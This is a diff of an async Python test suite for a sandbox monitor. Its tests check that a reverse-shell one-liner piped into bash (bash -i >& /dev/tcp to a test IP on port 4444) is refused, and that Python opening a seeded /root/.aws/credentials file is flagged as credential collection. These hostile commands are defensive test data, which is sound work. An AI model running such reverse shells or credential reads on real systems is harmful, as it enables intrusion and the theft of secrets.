@@ -121,3 +121,20 @@ async def test_attack_text_printed_into_a_shell_is_code_and_is_caught(runtime, s
     sb = await sb_factory()
     r = await sb.exec("echo 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' | bash")
     assert r.refused and "dev-tcp-shell" in (r.error or ""), r
+
+
+async def test_credential_material_opened_by_a_collector_is_caught_and_by_its_tool_is_not(runtime, sb_factory):
+    """Credentials a task seeded (corral's writes before the first step) are watched by inode: opening one
+    with cat or python is collection; ssh-keygen using a key, or reading a public key, is not."""
+    sb = await sb_factory()
+    await sb.write_file("/root/.aws/credentials", b"[default]\naws_access_key_id = AKIA-TEST\n")
+    await sb.write_file("/root/.ssh/id_ed25519.pub", b"ssh-ed25519 AAAA test\n")
+    r = await sb.exec("ssh-keygen -q -t ed25519 -N '' -f /tmp/k >/dev/null; cat /root/.ssh/id_ed25519.pub; "
+                      "ls -la /root/.aws")
+    assert r.ok, r
+    assert not await findings_for(runtime, sb, "credential-material-read", wait=0.5)
+    r = await sb.exec(py("print(open('/root/.aws/' + 'credentials').read().count('AKIA'))"))
+    assert r.stdout == "1\n"
+    found = await findings_for(runtime, sb, "credential-material-read")
+    assert found and found[0].step == r.step and found[0].severity == "high"
+    assert found[0].data["output"].endswith("opened /root/.aws/credentials")
